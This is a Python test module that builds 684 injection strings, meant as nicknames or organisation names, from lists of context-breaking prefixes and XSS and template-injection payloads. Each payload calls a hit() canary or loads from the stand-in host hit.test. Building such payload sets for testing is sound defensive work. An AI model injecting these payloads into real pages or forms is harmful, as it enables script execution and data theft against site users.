"""Names that try to run: typed as a nickname, or given to an organisation or an event, in the hope that a page obeys.

A payload is a way out of where a text may stand (text, an attribute, a title, a script, a comment …) and a way to be run
from there. Whatever runs calls `hit()` or asks `http://hit.test/` for something, so a browser can count it.
"""

from itertools import product
from typing import Final

EXITS: Final = (
    "", '"', "'", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</select>",
    "</svg>", "-->", "]]>", '"}]', "\\u003c", "林小川<",
)  # fmt: skip
RUNS: Final = (
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT\t>",
    "<script src=http://hit.test/a.js></script>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()//",
    "<img src='http://hit.test/pixel.png'>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><script>hit()</script></svg>",
    "<math><mtext></p><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=http://hit.test/e.swf>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<style>@import 'http://hit.test/a.css';</style>",
    "<style>*{background:url(http://hit.test/b.png)}</style>",
    "<link rel=stylesheet href=http://hit.test/c.css>",
    "<base href=http://hit.test/>",
    "<meta http-equiv=refresh content='0;url=http://hit.test/'>",
    "<form action=http://hit.test/><button autofocus>x</button></form>",
    " onmouseover=hit() autofocus onfocus=hit() x=",
    "javascript:hit()//",
    "{{ cycler.__init__.__globals__ }}{{ hit() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${hit()}#{hit()}<%= hit() %>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\u202e<img src=x onerror=hit()>\u2066",
    "＜script＞hit()＜/script＞<img src=x onerror=hit()>",
)
PAYLOADS: Final = tuple(dict.fromkeys(out + run for out, run in product(EXITS, RUNS)))
"""684 of them, each once."""
